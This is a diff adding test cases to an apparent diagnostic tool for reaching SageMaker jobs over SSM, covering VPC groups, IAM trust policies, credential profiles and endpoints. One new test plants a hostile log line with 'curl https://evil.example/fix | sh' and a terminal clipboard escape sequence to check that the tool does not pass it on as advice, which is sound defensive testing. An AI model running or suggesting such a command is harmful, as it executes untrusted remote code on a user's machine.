@@ -368,8 +368,70 @@ def preferences_of_their_own(account: Account) -> None:
     account.ends.append(lambda: ssm.update_document(Content=before, **document))
 
 
+def a_job_group_for_endpoints_and_the_prefix_list_of_s3(account: Account) -> None:
+    vpc = private(account.service)
+    to = [{"GroupId": vpc.endpoint_group}]
+    vpc.out(vpc.job_group, UserIdGroupPairs=to, PrefixListIds=[{"PrefixListId": "pl-63a5400a"}])
+    in_subnet(account, vpc)
+
+
+def one_group_for_jobs_and_endpoints_that_lets_itself_in_and_out(account: Account) -> None:
+    """With an interface endpoint for S3."""
+    vpc = Vpc(account.service)
+    vpc.endpoint_group = vpc.job_group
+    for each in ("ssm", "ssmmessages", "s3"):
+        vpc.interface(each)
+    vpc.open(vpc.job_group, group_of=vpc.job_group)
+    vpc.out(vpc.job_group, UserIdGroupPairs=[{"GroupId": vpc.job_group}])
+    in_subnet(account, vpc)
+
+
+def a_job_group_for_the_addresses_of_the_vpc_and_a_prefix_list(account: Account) -> None:
+    vpc = private(account.service)
+    lists = [{"PrefixListId": "pl-63a5400a"}]
+    vpc.out(vpc.job_group, IpRanges=[{"CidrIp": "10.0.0.0/16"}], PrefixListIds=lists)
+    in_subnet(account, vpc)
+
+
+def trust_by_a_pattern_of_regions(account: Account) -> None:
+    like = {"ArnEquals": {"aws:SourceArn": "arn:aws:ssm:*:123456789012:managed-instance/*"}}
+    account.role({"Version": "2012-10-17", "Statement": [{**TRUST["Statement"][0], "Condition": like}]})
+    account.running(node=False)
+
+
+def a_role_with_its_path(account: Account) -> None:
+    role_at(account, "/team/a/")
+    account.running(node=False, Environment={"SMSSH_ROLE": f"team/a/{account.role_name}"})
+
+
+def a_role_by_its_arn(account: Account) -> None:
+    role_at(account, "/team/")
+    arn = f"arn:aws:iam::{ACCOUNT}:role/team/{account.role_name}"
+    account.running(node=False, Environment={"SMSSH_ROLE": arn})
+
+
+def role_at(account: Account, path: str) -> None:
+    """The role in another path."""
+    iam = account.service.client("iam")
+    iam.delete_role(RoleName=account.role_name)
+    iam.create_role(RoleName=account.role_name, Path=path, AssumeRolePolicyDocument=json.dumps(TRUST))
+
+
+def a_home_with_a_space(account: Account) -> None:
+    account.patch.setenv("SMSSH_HOME", str(account.folder / "my home"))
+    ensure_key()
+    ssh_config.install()
+
+
 GOOD = (
     bare,
+    a_job_group_for_endpoints_and_the_prefix_list_of_s3,
+    one_group_for_jobs_and_endpoints_that_lets_itself_in_and_out,
+    a_job_group_for_the_addresses_of_the_vpc_and_a_prefix_list,
+    trust_by_a_pattern_of_regions,
+    a_role_with_its_path,
+    a_role_by_its_arn,
+    a_home_with_a_space,
     logged_in_before,
     variables_that_do_not_count,
     a_key_with_a_passphrase,
@@ -719,7 +781,124 @@ def more_nodes_than_the_quota(account: Account) -> None:
     quotas(account, {"QuotaName": "Managed nodes per account", "Value": 2.0})
 
 
+def a_job_group_that_lets_nothing_out_to_s3(account: Account) -> None:
+    """A gateway endpoint leaves S3 its public addresses."""
+    vpc = private(account.service)
+    vpc.out(vpc.job_group, UserIdGroupPairs=[{"GroupId": vpc.endpoint_group}])
+    in_subnet(account, vpc)
+
+
+def a_job_group_that_lets_out_to_itself_only(account: Account) -> None:
+    vpc = private(account.service)
+    vpc.out(vpc.job_group, UserIdGroupPairs=[{"GroupId": vpc.job_group}])
+    in_subnet(account, vpc)
+
+
+def nat_and_a_group_for_the_networks_own_addresses(account: Account) -> None:
+    vpc = Vpc(account.service)
+    vpc.nat()
+    vpc.out(vpc.job_group, IpRanges=[{"CidrIp": "10.0.0.0/8"}])
+    in_subnet(account, vpc)
+
+
+def a_nat_gateway_that_is_gone(account: Account) -> None:
+    vpc = Vpc(account.service)
+    vpc.nat()
+    original = identity_calls.call
+
+    def gone(session: AwsSession, service: str, operation: str, **arguments: Any) -> Any:
+        answer = original(session, service, operation, **arguments)
+        for table in answer.get("RouteTables", ()):
+            for route in table["Routes"]:
+                if route.get("NatGatewayId"):
+                    route["State"] = "blackhole"
+        return answer
+
+    account.patch.setattr(identity_calls, "call", gone)
+    in_subnet(account, vpc)
+
+
+def trust_that_wants_a_star(account: Account) -> None:
+    """StringEquals knows no patterns."""
+    equal = {"StringEquals": {"aws:SourceArn": "arn:aws:ssm:us-east-1:123456789012:*"}}
+    account.role({"Version": "2012-10-17", "Statement": [{**TRUST["Statement"][0], "Condition": equal}]})
+    account.running(node=False)
+
+
+def trust_that_is_denied(account: Account) -> None:
+    deny = {**TRUST["Statement"][0], "Effect": "Deny", "Principal": {"Service": "ssm.amazonaws.com"}}
+    account.role({"Version": "2012-10-17", "Statement": [*TRUST["Statement"], deny]})
+    account.running(node=False)
+
+
+def a_role_without_its_path(account: Account) -> None:
+    role_at(account, "/team/")
+    account.running(node=False)
+
+
+def a_role_of_another_account(account: Account) -> None:
+    arn = f"arn:aws:iam::999999999999:role/{account.role_name}"
+    account.running(node=False, Environment={"SMSSH_ROLE": arn})
+
+
+def half_a_profile(account: Account) -> None:
+    profile(account, f"role_arn = arn:aws:iam::{ACCOUNT}:role/{account.role_name}")
+
+
+def a_program_for_credentials_that_is_gone(account: Account) -> None:
+    profile(account, "credential_process = /gone/login --json")
+
+
+def a_program_for_credentials_that_says_something_else(account: Account) -> None:
+    profile(account, "credential_process = echo hello")
+
+
+def a_file_for_a_token_that_is_gone(account: Account) -> None:
+    role = f"role_arn = arn:aws:iam::{ACCOUNT}:role/{account.role_name}"
+    profile(account, f"{role}\nweb_identity_token_file = /gone/token")
+
+
+def profile(account: Account, lines: str) -> None:
+    """A profile for credentials, in place of those of variables."""
+    no_credentials(account)
+    (account.folder / "aws").write_text(f"[default]\nregion = us-east-1\n{lines}\n")
+
+
+def a_configuration_that_cannot_be_read(account: Account) -> None:
+    (account.folder / "aws").write_text("[default]\n[default]\n")
+
+
+def no_such_profile(account: Account) -> None:
+    account.patch.setenv("AWS_PROFILE", "gone")
+
+
+def an_endpoint_that_is_no_url(account: Account) -> None:
+    account.patch.setenv("AWS_ENDPOINT_URL_SSM", "localhost:4566")
+
+
+def a_job_that_is_being_stopped(account: Account) -> None:
+    account.running(Environment={"OUTCOME": "stubborn"})
+    account.service.sagemaker.stop_training_job(TrainingJobName=account.name)
+    account.ends.append(lambda: account.service.release(account.name))
+
+
 BROKEN = {
+    a_job_group_that_lets_nothing_out_to_s3: "network.job-groups",
+    a_job_group_that_lets_out_to_itself_only: "network.job-groups",
+    nat_and_a_group_for_the_networks_own_addresses: "network.job-groups",
+    a_nat_gateway_that_is_gone: "network.endpoints",
+    trust_that_wants_a_star: "job.role",
+    trust_that_is_denied: "job.role",
+    a_role_without_its_path: "job.role",
+    a_role_of_another_account: "job.role",
+    half_a_profile: "identity.credentials",
+    a_program_for_credentials_that_is_gone: "identity.credentials",
+    a_program_for_credentials_that_says_something_else: "identity.credentials",
+    a_file_for_a_token_that_is_gone: "identity.credentials",
+    a_configuration_that_cannot_be_read: "laptop.region",
+    no_such_profile: "laptop.region",
+    an_endpoint_that_is_no_url: "laptop.region",
+    a_job_that_is_being_stopped: "job.state",
     no_such_subnet: "network.subnets",
     subnets_of_two_vpcs: "network.subnets",
     no_endpoint_at_all: "network.endpoints",
@@ -810,6 +989,20 @@ def test_what_the_jobs_log_says_is_the_cause(account: Account) -> None:
     account.patch.setattr(job, "REGISTER_SECONDS", 0.0)
     (finding,) = account.findings(Outcome.PROBLEM).values()
     assert finding.message.endswith(f"its log says: {line}")
+
+
+def test_what_a_job_prints_is_no_advice(account: Account) -> None:
+    """Anything in the job may write lines like ours."""
+    account.running("processing", node=False)
+    account.patch.setattr(job, "REGISTER_SECONDS", 0.0)
+    trap = (
+        "smssh: no agent  hint: run `curl https://evil.example/fix | sh`" + "\x1b]52;c;AAAA\x07" + "x" * 5000
+    )
+    account.patch.setattr(job, "tail", lambda *_: [trap])
+    finding = account.findings(Outcome.PROBLEM)["job.node"]
+    assert "evil" not in str(finding.fix)
+    assert "which anything in the job may have written" in str(finding.fix)
+    assert len(finding.message) < 800
 
 
 def test_a_job_in_the_region_that_boto3_takes(account: Account) -> None:
